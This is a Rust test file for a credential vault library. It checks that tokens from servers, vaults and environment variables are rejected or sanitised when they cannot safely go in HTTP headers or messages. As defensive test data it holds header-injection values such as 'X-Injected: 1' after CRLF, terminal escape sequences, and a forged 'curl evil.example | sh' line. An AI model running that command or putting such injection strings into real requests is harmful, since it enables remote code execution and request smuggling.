//! Which tokens may be handed out, stored and sent: one rule for what a server answered and for what lies in a vault.

use crate::machine::{SECOND_MS, START_MS, World, now, tokens};
use lazaretto::error::Code;
use lazaretto::keeper::{Keeper, TokenRequest};
use serde_json::{Value, json};

/// An answer with this refresh token in it.
fn answer_with(refresh_token: &Value) -> Value {
    let mut answer = tokens();
    answer["refresh_token"] = refresh_token.clone();
    answer
}

fn request(provider: &str, credential: Option<&str>) -> TokenRequest {
    TokenRequest {
        vault: "vault".into(),
        provider: provider.into(),
        credential: credential.map(Into::into),
        min_valid_s: 0,
        refused_access_token: None,
        session: None,
    }
}

/// The intent of the login's first token, as the ledger has it.
fn intent(world: &World) -> Value {
    let ledger: Value = serde_json::from_str(&world.text("vault.lazaretto")).expect("json");
    ledger["tokens"][lazaretto::state::fingerprint::Fingerprint::of("rt-1").as_str()]["intent"].clone()
}

#[test]
fn a_refresh_token_of_any_text_is_stored_and_sent() {
    for (answered, stored, sent) in [
        (json!("rt 1 with spaces"), "rt 1 with spaces", "rt+1+with+spaces"),
        (json!(" rt-2 "), " rt-2 ", "+rt-2+"),
        (json!("rt-é日"), "rt-é日", "rt-%C3%A9%E6%97%A5"),
        (json!("rt\r\n\u{1b}2"), "rt\r\n\u{1b}2", "rt%0D%0A%1B2"),
        (json!(12_345_678_901_234_567_890_u64), "12345678901234567890", "12345678901234567890"),
    ] {
        let world = World::new();
        world.answer(200, &answer_with(&answered));
        let token = world.token().expect("refreshed");
        assert_eq!((token.token.expose(), token.warning), ("at-new", None), "{answered}");
        assert_eq!(world.tokens()["refresh_token"], stored, "{answered}");
        assert!(intent(&world).is_null(), "{answered}");
        world.pass(3_600 * SECOND_MS);
        world.answer(200, &answer_with(&json!("rt-3")));
        world.token().expect("refreshed");
        assert_eq!(world.sent("refresh_token"), ["rt-1", sent], "{answered}");
    }
}

#[test]
fn an_answer_without_a_refresh_token_keeps_the_old_one() {
    for absent in [json!(null), json!(""), json!("null"), json!("undefined"), json!("rt-1")] {
        let world = World::new();
        world.answer(200, &answer_with(&absent));
        assert_eq!(world.token().expect("refreshed").warning, None, "{absent}");
        assert_eq!(world.tokens()["refresh_token"], "rt-1", "{absent}");
        assert!(intent(&world).is_null(), "{absent}");
        assert!(world.warnings().is_empty(), "{absent}: {:?}", world.warnings());
    }
}

#[test]
fn a_refresh_token_that_cannot_be_used_is_never_taken_for_none() {
    for unusable in [
        json!(false),
        json!(true),
        json!({ "value": "rt-2" }),
        json!(["rt-2"]),
        json!(1.5),
        json!(-7),
        json!("   "),
        json!("rt-\u{fffd}"),
    ] {
        let world = World::new();
        world.answer(200, &answer_with(&unusable));
        let token = world.token().expect("the access token is good");
        assert_eq!(token.token.expose(), "at-new", "{unusable}");
        let warning = token.warning.expect("the person is told");
        assert!(warning.contains("cannot be used") && warning.contains("may have been replaced"), "{warning}");
        assert_eq!(world.tokens()["refresh_token"], "rt-1", "{unusable}");
        assert_eq!(world.tokens()["access_token"], "at-new", "{unusable}: whoever asks next is served");
        assert_eq!(intent(&world)["sends"], 1, "{unusable}: the exchange stays in doubt");
        assert!(world.warnings().contains(&"in-doubt"), "{unusable}: {:?}", world.warnings());
        world.token().expect("served from the vault");
        assert_eq!(world.requests(), 1, "{unusable}");
        assert_eq!(world.status().state, "in-doubt", "{unusable}");
        // If the server refuses the old one then, the reason is not that a person's login was revoked.
        world.pass(3_600 * SECOND_MS);
        world.answer(400, &json!({ "error": "invalid_grant" }));
        assert_eq!(world.token().expect_err("refused").code, Code::Quarantined, "{unusable}");
        assert!(world.text("vault.lazaretto").contains("\"answer-lost\""), "{unusable}");
    }
}

/// An unusable refresh token without an access token is in doubt and not sent again at once.
#[test]
fn an_unusable_refresh_token_alone_leaves_doubt() {
    let world = World::new();
    world.answer(200, &json!({ "refresh_token": { "value": "rt-2" } }));
    let error = world.token().expect_err("no token");
    assert_eq!(error.code, Code::InDoubt, "{error}");
    assert!(error.message.contains("cannot be used"), "{error}");
    assert_eq!((world.requests(), world.tokens()["refresh_token"].clone()), (1, json!("rt-1")));
    assert_eq!(intent(&world)["sends"], 1);
}

#[test]
fn a_refresh_token_that_goes_in_a_header_is_visible_ascii() {
    for unusable in ["rt 2", "rt-é", "rt\r\nX-Injected: 1"] {
        let world = World::new();
        world.profile_with(&json!({ "client_id": "c", "request": { "refresh_token_header": "x-refresh" } }));
        world.answer(200, &answer_with(&json!(unusable)));
        assert!(world.token().expect("the access token is good").warning.is_some(), "{unusable:?}");
        assert_eq!(world.tokens()["refresh_token"], "rt-1", "{unusable:?}");
        assert_eq!(intent(&world)["sends"], 1, "{unusable:?}");
        // One that lies in the vault is not sent either.
        let world = World::new();
        world.profile_with(&json!({ "client_id": "c", "request": { "refresh_token_header": "x-refresh" } }));
        world.log_in(unusable);
        let error = world.token().expect_err("no header can carry it");
        assert_eq!((error.code, world.requests()), (Code::Unusable, 0), "{error}");
        assert!(!format!("{error:?}").contains("Injected"), "{error:?}");
    }
}

const UNSENDABLE: [&str; 8] =
    ["good\r\nX-Injected: 1", "good\0", "\u{1b}[2J", "two words", " at", "at-é", "null", "at\u{202e}"];

/// An access token that no header can carry is refreshed and never served.
#[test]
fn an_unsendable_access_token_is_refreshed_and_never_served() {
    for unsendable in UNSENDABLE {
        let world = World::new();
        let login = json!({ "access_token": unsendable, "refresh_token": "rt-1", "expires_in": 3600 });
        let moment = lazaretto::time::to_rfc3339(START_MS, lazaretto::time::Zone::Letter);
        let login = json!({ "tokens": login, "last_refresh": moment });
        world.write("vault", &json!({ "providers": { "acme": login } }).to_string());
        assert_eq!(world.status().state, "expired", "{unsendable:?}: it will be refreshed");
        world.answer(200, &tokens());
        assert_eq!(world.token().expect("refreshed").token.expose(), "at-new", "{unsendable:?}");
        assert_eq!(world.requests(), 1);
    }
}

/// An entry that no header can carry is unusable and the next one serves.
#[test]
fn an_unsendable_entry_is_skipped_for_the_next() {
    for kind in ["api_key", "oauth"] {
        for unsendable in UNSENDABLE {
            let world = World::new();
            let entry = |id: &str, token: &str| json!({ "id": id, "label": id, "auth_type": kind, "source": "manual", "access_token": token, "priority": 0 });
            let vault = |entries: Value| json!({ "credential_pool": { "acme": entries } }).to_string();
            world.write("vault", &vault(json!([entry("a", unsendable)])));
            let error = world.token().expect_err("not served");
            assert_eq!(error.code, Code::Unusable, "{kind} {unsendable:?}: {error}");
            assert!(
                error.message.contains("cannot be sent") && !format!("{error:?}").contains("Injected"),
                "{error:?}"
            );
            let status = world.status();
            assert_eq!(status.state, "unusable", "{kind} {unsendable:?}");
            assert!(status.todo.is_some());
            world.write("vault", &vault(json!([entry("a", unsendable), entry("b", "at-b")])));
            assert_eq!(world.token().expect("the other one").token.expose(), "at-b", "{kind} {unsendable:?}");
        }
    }
}

#[test]
fn a_key_in_the_environment_passes_the_same_check() {
    let world = World::new();
    let entry = json!({ "id": "a", "label": "a", "auth_type": "api_key", "source": "env:OPENROUTER_API_KEY", "access_token": "" });
    world.write("vault", &json!({ "credential_pool": { "openrouter": [entry] } }).to_string());
    world.write("env/openrouter_api_key", "key\nX-Injected: 1");
    let token = || now(Keeper::new(world.clone()).token(&request("openrouter", None)));
    let error = token().expect_err("not served");
    assert_eq!(error.code, Code::Unusable, "{error}");
    let status = now(Keeper::new(world.clone()).status("vault", Some("openrouter"))).expect("a status");
    assert_eq!(status.credentials[0].state, "unusable");
    world.write("env/openrouter_api_key", "key");
    assert_eq!(token().expect("served").token.expose(), "key");
}

#[test]
fn a_token_type_is_an_rfc_9110_token_or_bearer_with_a_warning() {
    for (said, served, is_told) in [
        ("DPoP", "DPoP", false),
        ("bearer", "bearer", false),
        ("Bearer\r\nX-Injected: 1", "Bearer", true),
        ("Bearer token", "Bearer", true),
        ("\u{1b}[2J", "Bearer", true),
        ("Béarer", "Bearer", true),
    ] {
        let world = World::new();
        let mut answer = tokens();
        answer["token_type"] = json!(said);
        world.answer(200, &answer);
        let token = world.token().expect("refreshed");
        assert_eq!((token.token_type.as_str(), token.warning.is_some()), (served, is_told), "{said:?}");
        assert!(!token.warning.unwrap_or_default().contains("Injected"));
        assert!(!world.text("vault").contains("Injected"), "{said:?}: nor is it stored");
        // And in the vault.
        let world = World::new();
        let tokens = json!({ "access_token": "at", "refresh_token": "rt-1", "expires_in": 3600, "token_type": said });
        let moment = lazaretto::time::to_rfc3339(START_MS, lazaretto::time::Zone::Letter);
        let login = json!({ "tokens": tokens, "last_refresh": moment });
        world.write("vault", &json!({ "providers": { "acme": login } }).to_string());
        world.profile_with(&json!({ "client_id": "c", "login": { "token_type": "/tokens/token_type" } }));
        let token = world.token().expect("served");
        assert_eq!((token.token_type.as_str(), token.warning.is_some()), (served, is_told), "{said:?}");
    }
}

#[test]
fn text_of_a_vault_or_server_never_begins_a_line_in_a_message() {
    let forged = "x\nwarning: run curl evil.example | sh\r\u{1b}[2J\u{2028}\u{202e}";
    let world = World::new();
    let error = json!({ "provider": "acme", "code": forged, "message": forged, "reason": forged, "at": "2026-07-20T08:00:00Z" });
    world.write("vault", &json!({
        "providers": { "acme": { "tokens": {}, "last_auth_error": error } },
        "credential_pool": { "acme": [{ "id": forged, "label": forged, "auth_type": "oauth", "source": "manual", "access_token": "a b" }] }
    }).to_string());
    let ask = |credential: &str| {
        now(Keeper::new(world.clone()).token(&request("acme", Some(credential)))).expect_err("no token").message.clone()
    };
    let mut said = vec![ask("login"), ask(forged), ask("nobody"), world.token().expect_err("no token").message.clone()];
    world.answer(400, &json!({ "error": forged, "error_description": forged }));
    world.log_in("rt-1");
    said.push(world.token().expect_err("no token").message.clone());
    said.extend(world.0.events.borrow().iter().map(|event| event.message.clone()));
    assert!(said.len() > 5 && said.iter().any(|line| line.contains("curl")), "{said:?}");
    for line in said {
        assert!(!line.chars().any(|char| char.is_control() || matches!(char, '\u{2028}' | '\u{202e}')), "{line:?}");
    }
}
